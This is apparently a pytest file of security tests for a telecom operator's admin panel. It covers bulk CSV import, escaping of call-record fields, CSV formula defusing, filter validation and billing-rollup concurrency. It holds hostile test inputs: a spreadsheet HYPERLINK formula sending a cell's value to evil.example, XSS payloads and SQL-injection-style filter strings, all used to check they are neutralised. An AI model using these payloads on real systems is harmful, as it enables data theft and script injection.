"""Attacks on the operator back office (issue 15 review): the bulk import's parsing of odd
files and numbers and what binds an apply to its dry run; markup and formulas from CDR fields
in Call Records; wildcards and bad values in its filters; the kept report per filters and
language; the rollup under two raters at once; two operators applying one file at once."""

from __future__ import annotations

import base64
import csv
import datetime as dt
import hashlib
import io
import random
import re
import threading
import time
from decimal import Decimal

import pytest
from sqlalchemy import insert, text, update

from db import accounts
from db.models import Account, CdrCharge
from db.session import transaction
from tests.support.realparts import unique_number
from webpanel.admin import reports_views

from .cdrs import add_cdrs, cdr_values
from .conftest import sign_in_user
from .test_admin_bulk_import import (  # noqa: F401 (fixtures)
    admin,
    apply,
    apply_fields,
    as_admin,
    counts,
    dry_run,
    errors_in,
    good_file,
    problems,
)

HEADER = "account_ref,first_name,last_name,email,login,password,numbers,dids\n"


def test_numbers_in_other_scripts_digits_are_refused_by_column(as_admin, factory):
    """str.isdigit() takes superscript and Arabic-Indic digits: the database's CHECK refused them
    and the row said "just taken by someone else"."""
    a, b, d = unique_number("1700"), unique_number("1700"), unique_number("1555")
    content = (
        HEADER
        + "X,A,B,a@example.com,¹⁷⁰⁰⁵⁵⁵⁰⁰⁰¹,generate,,\n"
        + f"Y,A,B,b@example.com,{a},generate,١٧٠٠٥٥٥٠٠٠٢,\n"
        + f"Z,A,B,c@example.com,{b},generate,,{d[:-1]}٣\n"
    )
    before = counts(factory)
    r = dry_run(as_admin, content)
    assert r.status_code == 400
    assert problems(r) == [
        ("2", "login", "A virtual number is 4 to 15 digits."),
        ("3", "numbers", "A virtual number is 4 to 15 digits."),
        ("4", "dids", "A DID is 4 to 15 digits."),
    ]
    assert counts(factory) == before


def test_a_pasted_file_with_a_byte_order_mark_is_read(as_admin, factory):
    n = unique_number("1700")
    r = dry_run(as_admin, "\ufeff" + HEADER + f"X,A,B,a@example.com,{n},generate,,\n", as_file=False)
    assert r.status_code == 200, problems(r)


def test_crlf_quoted_newlines_and_formulas_in_names_are_plain_text(as_admin, factory):
    n = unique_number("1700")
    content = (
        HEADER.replace("\n", "\r\n")
        + f'X,"=HYPERLINK(""x"")","<b>Lo\r\nve</b>",a@example.com,{n},generate,,\r\n'
    )
    r = dry_run(as_admin, content)
    assert r.status_code == 200, problems(r)
    html = r.get_data(as_text=True)
    assert "<b>Lo" not in html and "&lt;b&gt;Lo ve&lt;/b&gt;" in html


def test_an_apply_needs_the_seal_of_its_dry_run_not_just_a_sha256(as_admin, factory):
    """The apply form carried the content and its plain SHA-256: anyone posting to apply could
    change the rows and compute the digest again, so what was applied was not what the dry run
    showed. The digest is now sealed with the panel's secret for this operator."""
    content, _n = good_file()
    fields = apply_fields(dry_run(as_admin, content))
    assert fields["digest"] != hashlib.sha256(content.encode()).hexdigest()
    changed = content.replace("Ada,Lovelace", "Eve,Mallory")
    before = counts(factory)
    forged = {
        "content": base64.b64encode(changed.encode()).decode(),
        "digest": hashlib.sha256(changed.encode()).hexdigest(),
    }
    r = apply(as_admin, forged)
    assert r.status_code == 400
    assert "The file changed since its dry run; run the dry run again." in errors_in(r)
    assert counts(factory) == before


# --- call records: markup and formulas from CDR fields, LIKE wildcards in filters ------------

EVIL_SRC = '=HYPERLINK("http://evil.example/?x="&A1,"call")'


def test_records_escape_cdr_markup_and_the_csv_defuses_formulas(as_admin, factory, make_member):

    member = make_member()

    with transaction(factory) as s:
        s.execute(
            update(Account)
            .where(Account.id == member.account_id)
            .values(company='<script>alert("co")</script>')
        )
    start = dt.datetime(2004, 2, 3, 4, 5, 6, tzinfo=dt.UTC)
    row = cdr_values(
        vnum=member.number,
        start=start,
        src=EVIL_SRC[:80],
        dst="+SUM(1+1)",
        dialed="442071234567",
        call_class="I",
        billsec=10,
        clid='"<img src=x onerror=alert(1)>" <1>',
        dstchannel="<svg onload=alert(2)>",
    )
    row["carrier"] = "@SUM(1)<b>"
    row["carrier_attempts"] = "<i>x</i>:503;-2+3"
    row["disposition"] = "<u>ANS</u>"
    (cdr_id,) = add_cdrs(
        factory, [row], {0: {"account_id": member.account_id, "call_type": "I", "country": "GB"}}
    )
    listing = as_admin.get(f"/admin/records?account={member.account_id}")
    assert listing.status_code == 200
    detail = as_admin.get(f"/admin/records/{cdr_id}")
    assert detail.status_code == 200
    for html in (listing.get_data(as_text=True), detail.get_data(as_text=True)):
        for raw in ("<script>alert", "<img src=x", "<svg onload", "<b>", "<i>x", "<u>ANS"):
            assert raw not in html, raw
    assert "&lt;script&gt;alert" in listing.get_data(as_text=True)
    export = as_admin.get(f"/admin/records/export.csv?account={member.account_id}")
    assert export.status_code == 200
    lines = list(csv.reader(io.StringIO(export.get_data(as_text=True))))
    header, cells = lines[0], lines[1]
    for cell in cells:
        assert not cell or cell[0] not in "=+-@\t\r" or re.fullmatch(r"\+?\d+", cell), (cell, header)
    assert cells[3] == "'" + EVIL_SRC[:80]
    assert cells[4] == "'+SUM(1+1)"
    assert cells[10] == "'@SUM(1)<b>"


@pytest.mark.parametrize(
    "args",
    [
        "destination=%25",
        "destination=4_",
        "destination=44%5C",
        "number=1%25%25%25",
        "did=___",
        "carrier=%25",
        "account=%25",
        "since=2026-02-30",
        "since=2026-01-01T25:00",
        "until=2100-01-01",
        "since=1999-12-31",
        "since=2026-03-02&until=2026-03-01",
        "after=AAAAAAAAAAAAAAAAAAAAAA",
        "before=%27%3B--",
    ],
)
def test_record_filters_take_no_wildcards_or_bad_dates(as_admin, args):
    r = as_admin.get(f"/admin/records?{args}")
    assert r.status_code == 400, args
    assert "record-row" not in r.get_data(as_text=True)
    if not args.startswith(("after", "before")):
        assert as_admin.get(f"/admin/records/export.csv?{args}").status_code == 400


# --- reports: the kept report is one range and filters' and one language's ------------------


def test_the_kept_report_is_not_served_for_other_filters_or_languages(client, factory, make_member):

    day = dt.date(2003, 1, 1) + dt.timedelta(days=random.randrange(3000))
    one, other = make_member(), make_member()
    t0 = dt.datetime.combine(day, dt.time(10), tzinfo=dt.UTC)
    add_cdrs(
        factory,
        [cdr_values(vnum=one.number, start=t0, dialed="13125550100", call_class="D", billsec=60)],
        {0: {"account_id": one.account_id, "call_type": "D", "country": "US", "billable_seconds": 60}},
    )
    with transaction(factory) as s:
        admin_en = accounts.create_admin(s, f"admin-en-{time.time_ns()}", "Admin-pass-2026").id
    reports_views.CACHE.clear()
    sign_in_user(client, admin_en)

    def calls(args: str, lang: str = "en") -> tuple[str, str]:
        html = client.get(f"/admin/reports/?start={day}&end={day}{args}", headers={"Accept-Language": lang})
        text = html.get_data(as_text=True)
        m = re.search(r'id="total-calls">([^<]*)<', text)
        assert m, text[:500]
        return m.group(1), text

    assert calls("")[0] == "1"
    assert calls(f"&account={other.account_id}")[0] == "0"
    assert calls(f"&account={one.account_id}")[0] == "1"
    assert calls("&carrier=0")[0] == "1"
    assert calls(f"&account={one.account_id}&carrier=0")[0] == "1"
    _n, es = calls("", "es")
    assert "Llamadas" in es or "llamadas" in es
    _n, en = calls("", "en")
    assert "Llamadas" not in en


# --- the rollup under two raters at once ---------------------------------------------------


def _rollup(factory, day, account_id):

    with factory() as s:
        return s.execute(
            text(
                "SELECT country, call_type, calls, answered, billsec, billable_seconds, revenue"
                " FROM cdr_rollup_daily WHERE day = :d AND account_id = :a ORDER BY country, call_type"
            ),
            {"d": day, "a": account_id},
        ).all()


def test_two_raters_charging_one_rollup_key_at_once_lose_nothing(factory, make_member):
    """Two transactions insert charges of the same (day, account, country, type, carrier) and
    commit at the same moment: the second upsert waits for the first's row and adds to it."""

    member = make_member()
    day = dt.date(2003, 1, 1) + dt.timedelta(days=random.randrange(3000))
    t0 = dt.datetime.combine(day, dt.time(9), tzinfo=dt.UTC)
    rows = [
        cdr_values(vnum=member.number, start=t0 + dt.timedelta(minutes=i), dialed="13125550100", billsec=60)
        for i in range(20)
    ]
    ids = add_cdrs(factory, rows)  # no charges yet: the two "raters" write them
    inserted, commit = threading.Event(), threading.Event()
    errors: list[BaseException] = []
    pids: list[int] = []

    def rater(mine: list[int], first: bool) -> None:
        try:
            with factory() as s:
                pids.append(s.execute(text("SELECT pg_backend_pid()")).scalar_one())
                if not first:
                    inserted.wait(30)
                for cdr_id in mine:
                    s.execute(
                        insert(CdrCharge).values(
                            cdr_id=cdr_id,
                            account_id=member.account_id,
                            call_type="D",
                            country="US",
                            billable_seconds=60,
                            cost=Decimal("0.0100"),
                        )
                    )
                if first:
                    inserted.set()
                    commit.wait(30)  # holds the rollup row while the other upserts it
                s.commit()
        except BaseException as exc:  # noqa: BLE001
            errors.append(exc)

    threads = [
        threading.Thread(target=rater, args=(ids[:10], True)),
        threading.Thread(target=rater, args=(ids[10:], False)),
    ]
    for t in threads:
        t.start()
    assert inserted.wait(30)
    deadline = time.monotonic() + 20
    waiting = False
    while not waiting and time.monotonic() < deadline:  # the second rater waits for the row
        with factory() as s:
            waiting = bool(
                s.scalar(
                    text(
                        "SELECT count(*) FROM pg_stat_activity WHERE pid = ANY(:p) AND wait_event_type = 'Lock'"
                    ),
                    {"p": pids},
                )
            )
        time.sleep(0.05)
    commit.set()
    for t in threads:
        t.join(60)
    assert waiting, "the second upsert never waited for the first"
    assert not errors, errors
    assert _rollup(factory, day, member.account_id) == [("US", "D", 20, 20, 1200, 1200, Decimal("0.2000"))]


def test_two_operators_applying_one_file_at_once_import_it_once(app, factory):

    content, n = good_file()
    clients = []
    for i in range(2):
        with transaction(factory) as s:
            admin_id = accounts.create_admin(s, f"admin-{i}-{time.time_ns()}", "Admin-pass-2026").id
        c = app.test_client()
        sign_in_user(c, admin_id)
        r = dry_run(c, content)
        assert r.status_code == 200, problems(r)
        clients.append((c, apply_fields(r)))
    before = counts(factory)
    statuses: list[int] = []
    go = threading.Barrier(2)

    def run(c, fields) -> None:
        go.wait(10)
        statuses.append(apply(c, fields).status_code)

    threads = [threading.Thread(target=run, args=pair) for pair in clients]
    for t in threads:
        t.start()
    for t in threads:
        t.join(120)
    assert sorted(statuses) == [200, 400]
    after = counts(factory)
    assert after["accounts"] == before["accounts"] + 2
    assert after["dids"] == before["dids"] + 3


def test_an_excel_file_separated_by_semicolons_is_read(as_admin, factory):
    """Excel in a locale whose decimal mark is a comma saves "CSV" with ; between the cells (and
    quotes a cell that has a ; in it, such as the numbers and dids lists)."""
    a, a2, d = unique_number("1700"), unique_number("1700"), unique_number("1555")
    content = (
        "account_ref;first_name;last_name;email;login;password;numbers;dids\r\n"
        f'X;Zoë;Émile;z@example.com;{a};generate;{a2};"{d}={a2};{unique_number("1555")}"\r\n'
    )
    r = dry_run(as_admin, "\ufeff" + content)
    assert r.status_code == 200, problems(r)
    assert "Zoë" in r.get_data(as_text=True)


# --- other scripts' digits in the operator's number fields ---------------------------------


@pytest.mark.parametrize("q", ["%C2%B2", "%D9%A3%D9%A4"])  # a superscript two; Arabic-Indic 3 and 4
def test_searches_take_other_scripts_digits_as_text(as_admin, q):
    """str.isdigit() says yes to them and int() then raised: a 500."""
    assert as_admin.get(f"/admin/accounts/?q={q}").status_code == 200
    assert as_admin.get(f"/admin/dids/?q={q}").status_code == 200


def test_a_did_in_other_scripts_digits_is_refused_with_a_message(as_admin, factory, make_member):
    from .conftest import csrf_token

    member = make_member()
    before = counts(factory)
    token = csrf_token(as_admin, "/admin/dids/")
    r = as_admin.post(
        "/admin/dids/new", data={"csrf_token": token, "number": "١٢٣٤٥٦٧", "account_id": member.account_id}
    )
    assert r.status_code == 400
    assert "A DID is 4 to 15 digits." in errors_in(r)
    token = csrf_token(as_admin, f"/admin/accounts/{member.account_id}")
    r = as_admin.post(
        f"/admin/accounts/{member.account_id}/numbers", data={"csrf_token": token, "number": "¹⁷⁰⁰⁵⁵⁵⁰⁰⁰⁹"}
    )
    assert r.status_code in (302, 400)
    assert counts(factory) == before


def test_a_report_csv_keeps_a_negative_margin_a_number(as_admin, factory, make_member):
    """The formula guard prefixed every cell starting with - with a quote: a loss-making day's
    margin became the text '-0.1000 in the spreadsheet."""
    day = dt.date(2003, 1, 1) + dt.timedelta(days=random.randrange(3000))
    member = make_member()
    t0 = dt.datetime.combine(day, dt.time(10), tzinfo=dt.UTC)
    charge = {
        "account_id": member.account_id,
        "call_type": "I",
        "country": "GB",
        "billable_seconds": 60,
        "cost": Decimal("0.1000"),
        "buy_cost": Decimal("0.2000"),
        "margin": Decimal("-0.1000"),
    }
    add_cdrs(
        factory,
        [cdr_values(vnum=member.number, start=t0, dialed="442071234567", call_class="I", billsec=60)],
        {0: charge},
    )
    r = as_admin.get(f"/admin/reports/day.csv?start={day}&end={day}&account={member.account_id}")
    assert r.status_code == 200
    header, row = list(csv.reader(io.StringIO(r.get_data(as_text=True))))
    assert row[0] == day.isoformat()
    assert row[-1] == "-0.1000"
    assert row[-2] == "0.2000"


@pytest.mark.parametrize("column", ["first_name", "email", "numbers", "account_ref", "dids"])
def test_a_nul_or_control_character_in_a_cell_is_a_problem_not_a_500(as_admin, factory, column):
    """PostgreSQL refuses NUL in text: the row's insert raised DataError (not a ServiceError or
    an IntegrityError) and the dry run answered 500."""
    n = unique_number("1700")
    values = {"first_name": "Ada", "email": "a@example.com", "numbers": "", "account_ref": "R", "dids": ""}
    values[column] = values[column] + "\x00x" if values[column] else "1\x002"
    content = HEADER + (
        f"{values['account_ref']},{values['first_name']},B,{values['email']},{n},generate,"
        f"{values['numbers']},{values['dids']}\n"
    )
    before = counts(factory)
    r = dry_run(as_admin, content)
    assert r.status_code == 400
    assert problems(r) == [("2", column, "This cell has a control character (such as NUL); remove it.")]
    assert counts(factory) == before


def test_two_raters_upserting_two_rollup_keys_in_opposite_orders_deadlock_one_retries(factory, make_member):
    """Rater A charges country US then GB, rater B GB then US, for one account and day, free
    calls (a charge with a cost locks its account's row first, migration 0018, which orders
    them): one of them is the deadlock victim (SQLSTATE 40P01, which the rater retries: _retryable), the other
    commits; the victim's charges are rated again and the rollup ends exact, nothing twice."""
    from sqlalchemy.exc import DBAPIError

    from controller.services.rater import _retryable

    member = make_member()
    day = dt.date(2003, 1, 1) + dt.timedelta(days=random.randrange(3000))
    t0 = dt.datetime.combine(day, dt.time(9), tzinfo=dt.UTC)
    rows = [
        cdr_values(vnum=member.number, start=t0 + dt.timedelta(minutes=i), dialed="13125550100", billsec=60)
        for i in range(4)
    ]
    ids = add_cdrs(factory, rows)
    plans = {"A": [(ids[0], "US"), (ids[1], "GB")], "B": [(ids[2], "GB"), (ids[3], "US")]}
    first_done = threading.Barrier(2)
    failures: dict[str, BaseException] = {}

    def charge(s, cdr_id: int, country: str) -> None:
        s.execute(
            insert(CdrCharge).values(
                cdr_id=cdr_id,
                account_id=member.account_id,
                call_type="D",
                country=country,
                billable_seconds=60,
                cost=Decimal("0"),
            )
        )

    def rater(name: str) -> None:
        with factory() as s:
            try:
                (a, ca), (b, cb) = plans[name]
                charge(s, a, ca)
                first_done.wait(10)  # each holds its first key; the second crosses the other's
                charge(s, b, cb)
                s.commit()
            except DBAPIError as exc:
                s.rollback()
                failures[name] = exc
                for cdr_id, country in plans[name]:  # the rater's retry of its batch
                    charge(s, cdr_id, country)
                s.commit()

    threads = [threading.Thread(target=rater, args=(n,)) for n in plans]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert len(failures) == 1, failures
    (victim,) = failures.values()
    assert getattr(victim.orig, "sqlstate", "") == "40P01" and _retryable(victim)
    assert _rollup(factory, day, member.account_id) == [
        ("GB", "D", 2, 2, 120, 120, Decimal("0.0000")),
        ("US", "D", 2, 2, 120, 120, Decimal("0.0000")),
    ]


def test_a_generated_password_is_shown_once_and_stored_nowhere_else(as_admin, factory, caplog):
    from sqlalchemy import cast, select
    from sqlalchemy.types import Text

    from db.models import AuditLog

    content, n = good_file()
    r = dry_run(as_admin, content)
    assert r.status_code == 200
    fields = apply_fields(r)
    r = apply(as_admin, fields)
    assert r.status_code == 200 and r.headers["Cache-Control"] == "no-store"
    shown = re.search(rf'data-login="{n["b"]}">([^<]+)</code>', r.get_data(as_text=True))
    assert shown, "the generated password is not on the apply's page"
    password = shown.group(1)
    with factory() as s:
        leaked = s.scalar(select(AuditLog.id).where(cast(AuditLog.details, Text).contains(password)).limit(1))
    assert leaked is None
    assert password not in caplog.text
    # a second submit of the same apply shows no password again
    again = apply(as_admin, fields)
    assert again.status_code == 400
    assert password not in again.get_data(as_text=True)


@pytest.mark.parametrize(
    "args",
    [
        "start=2100-01-01",
        "end=2100-01-01",
        "start=1999-12-31",
        "start=2026-02-29",  # not a leap year
        "start=tomorrow",
        "start=2026-1-1",
        "start=%EF%BC%92%EF%BC%90%EF%BC%92%EF%BC%96-01-01",  # fullwidth digits
        "start=2026-03-01&end=2026-02-28",
        "start=2025-01-01&end=2026-01-02",  # 367 days
        "account=-1",
        "account=1%250",
        "carrier=1%20OR%201=1",
    ],
)
def test_a_report_refuses_bad_dates_and_filters(as_admin, args):
    r = as_admin.get(f"/admin/reports/?{args}")
    assert r.status_code == 400, args
    assert 'id="total-calls"' not in r.get_data(as_text=True)
    assert as_admin.get(f"/admin/reports/account.csv?{args}").status_code == 400


def test_a_report_of_the_far_future_and_of_366_days_is_empty_not_refused(as_admin):
    assert as_admin.get("/admin/reports/?start=2099-12-01&end=2099-12-31").status_code == 200
    assert as_admin.get("/admin/reports/?start=2024-01-01&end=2024-12-31").status_code == 200  # leap
